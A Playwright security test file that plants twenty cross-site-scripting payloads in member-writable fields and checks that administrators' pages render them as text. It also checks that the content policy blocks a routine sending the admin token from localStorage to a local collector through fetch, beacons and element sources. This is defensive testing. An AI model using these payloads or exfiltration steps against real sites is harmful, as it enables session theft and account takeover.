import { randomBytes, randomUUID } from 'node:crypto'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test, type BrowserContext, type Page } from '@playwright/test'
import { administratorPages } from '../pages'
import {
  administratorBrowser,
  createEarner,
  createMember,
  decideDeposit,
  financeToken,
  profileId,
  requestDeposit,
  send,
  setWallet,
  signedIn,
  type Account,
} from '../people'
import { administratorKey, origin } from '../stack'

// Whatever a person types is text to every reader. Every payload stands in every field that members
// write, and every administrators' page is opened: with the content policy, and without it, so that the policy is
// not what saves a page. A payload that became an element would be found by its id, one that ran by its dialog.
// threats: T67 T111
const payloads = [
  '<script id=planted>alert(1)</script>',
  '<img id=planted src=x onerror=alert(1)>',
  '<svg id=planted onload=alert(1)>',
  '"><img id=planted src=x onerror=alert(1)>',
  "'><svg id=planted onload=alert(1)>",
  '</title><script id=planted>alert(1)</script>',
  '</textarea><img id=planted src=x onerror=alert(1)>',
  '<iframe id=planted srcdoc="<script>alert(1)</script>">',
  '<iframe id=planted src=javascript:alert(1)>',
  '<a id=planted href=javascript:alert(1)>view</a>',
  'javascript:alert(1)//planted',
  'data:text/html,<script>alert(1)</script>',
  '<details id=planted open ontoggle=alert(1)>',
  '<input id=planted autofocus onfocus=alert(1)>',
  '<body id=planted onload=alert(1)>',
  '<math><mtext id=planted><img src=x onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}<b id=planted>',
  '<object id=planted data=javascript:alert(1)>',
  '<form id=planted><button formaction=javascript:alert(1)>go',
]

const tag = `xss${randomBytes(3).toString('hex')}`
const half = payloads.length / 2

/** One member for each payload, who writes it wherever a member may write. */
async function plantAsMember(payload: string, index: number): Promise<void> {
  const account = await signedIn(await createMember(tag, { displayName: payload }))
  await setWallet(account, payload)
  const deposit = await requestDeposit(account, 100, `${payload} ${tag}${index}`)
  await send(account.token, 'POST', '/functions/v1/bot-subscription', {
    bot_name: 'Scout',
    action: 'subscribe',
    mt5_server: payload,
    mt5_login: payload,
    mt5_password: payload,
  })
  if (index % 2) await decideDeposit(deposit, { action: 'reject', reason: payload })
  await send(await financeToken(), 'POST', '/functions/v1/admin-update-member', {
    profileId: await profileId(account),
    admin_notes: payload,
    reason: payload,
  })
}

async function requestWithdrawal(account: Account, payload: string): Promise<void> {
  await setWallet(account, payload)
  await send(account.token, 'POST', '/rest/v1/withdrawals', {
    id: randomUUID(),
    user_id: account.userId,
    amount: 100,
    wallet_address: payload,
    status: 'pending',
  })
}

async function plantAsEarner(texts: string[]): Promise<void> {
  const [, account] = await createEarner(tag)
  for (const payload of texts) await requestWithdrawal(account, payload)
}

// One plantation for all. The walk takes a minute where other journeys run beside it.
test.describe.configure({ mode: 'default', timeout: 540_000 })
test.beforeAll(async () => {
  const members = payloads.map((payload, index) => () => plantAsMember(payload, index))
  const earners = [payloads.slice(0, half), payloads.slice(half)].map((texts) => () => plantAsEarner(texts))
  const rest = [...members, ...earners].values()
  const plant = async () => {
    for (const each of rest) await each()
  }
  await Promise.all([plant(), plant(), plant()])
})

/** What a page must not do while it is looked at. */
function watch(page: Page): string[] {
  const ran: string[] = []
  page.on('dialog', (dialog) => {
    ran.push(`${page.url()}: ${dialog.message()}`)
    void dialog.dismiss()
  })
  return ran
}

async function plantedElements(page: Page): Promise<number> {
  return page.locator('#planted').count()
}

/** Opens what the first rows open; a page without rows has nothing to open. */
async function openDetails(page: Page, most: number): Promise<number> {
  const rows = page.getByRole('button', { name: new RegExp(`^${tag}`) })
  const count = Math.min(await rows.count(), most)
  for (let row = 0; row < count; row++) {
    await rows.nth(row).click()
    await expect(page.getByRole('dialog')).toBeVisible()
    expect(await plantedElements(page)).toBe(0)
    await page.keyboard.press('Escape')
    await expect(page.getByRole('dialog')).toBeHidden()
  }
  return count
}

/** Opens every page, and with `details` whatever its rows open; nothing may run or become an element. */
async function walk(context: BrowserContext, details: boolean): Promise<void> {
  const page = await context.newPage()
  const ran = watch(page)
  let opened = 0
  for (const path of administratorPages) {
    const address = new URL(path, origin)
    address.searchParams.set('q', tag)
    await page.goto(address.href)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    await page.waitForLoadState('networkidle')
    // A busy machine is silent for half a second before the page has asked for its rows.
    await expect(page.locator('[aria-busy=true]')).toHaveCount(0)
    expect.soft(await plantedElements(page), path).toBe(0)
    // Every payload once; of the other lists two rows show how they are drawn.
    if (details) opened += await openDetails(page, path.includes('deposits?status=all') ? payloads.length : 2)
  }
  expect(opened).toBeGreaterThanOrEqual(details ? payloads.length : 0)
  expect(ran).toEqual([])
  expect(await page.evaluate((key) => localStorage.getItem(key), administratorKey)).toBeTruthy()
}

test('twenty texts that would be scripts stay texts without a content policy', async ({ browser }) => {
  const context = await administratorBrowser(browser, { bypassCSP: true })
  await walk(context, true)
  await context.close()
})

// Not more than an ordinary text in a page that its policy breaks, which the walk through all pages would tell.
test('and with it no page of them breaks', { tag: '@long' }, async ({ browser }) => {
  const context = await administratorBrowser(browser)
  await walk(context, false)
  await context.close()
})

/** What a hole in a page would let in: an element with a handler. */
async function breakIn(page: Page): Promise<void> {
  await page.evaluate(() => {
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img id="hole" src="/nothing.png" onerror="alert(document.domain)">',
    )
  })
}

/** A third party's server; it records its requests. */
async function collector(): Promise<{ address: string; asked: string[]; close: () => void }> {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`)
    response.end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  return { address, asked, close: () => server.close() }
}

/** Every way out that does not leave the page, which a person would see. */
async function sendAway(page: Page, address: string): Promise<void> {
  await page.evaluate(
    async ([elsewhere, key]) => {
      const token = encodeURIComponent(localStorage.getItem(key) ?? '')
      await fetch(`${elsewhere}/fetch?${token}`, { mode: 'no-cors' }).catch(() => undefined)
      navigator.sendBeacon(`${elsewhere}/beacon?${token}`)
      for (const [kind, attribute] of [
        ['img', 'src'],
        ['script', 'src'],
        ['iframe', 'src'],
        ['video', 'src'],
        ['object', 'data'],
      ] as const) {
        const element = document.createElement(kind)
        element.setAttribute(attribute, `${elsewhere}/${kind}?${token}`)
        document.body.append(element)
      }
      const style = document.createElement('link')
      style.rel = 'stylesheet'
      style.href = `${elsewhere}/style?${token}`
      document.head.append(style)
    },
    [address, administratorKey] as const,
  )
}

test('a script let in by a hole does not run, and what runs does not send the token away', async ({
  browser,
}) => {
  const first = await collector()
  const loose = await administratorBrowser(browser, { bypassCSP: true })
  const unguarded = await loose.newPage()
  const ran = watch(unguarded)
  await unguarded.goto('/admin/dashboard')
  await breakIn(unguarded)
  await sendAway(unguarded, first.address)
  await expect.poll(() => ran).toHaveLength(1)
  await expect.poll(() => first.asked.length).toBeGreaterThanOrEqual(7)
  await loose.close()

  // One of its own: what is still on its way to the first says nothing of this page.
  const elsewhere = await collector()
  const context = await administratorBrowser(browser)
  const page = await context.newPage()
  const guarded = watch(page)
  await page.goto('/admin/dashboard')
  await breakIn(page)
  await sendAway(page, elsewhere.address)
  await page.waitForTimeout(1000)
  expect(guarded).toEqual([])
  expect(elsewhere.asked).toEqual([])
  await context.close()
  first.close()
  elsewhere.close()
})
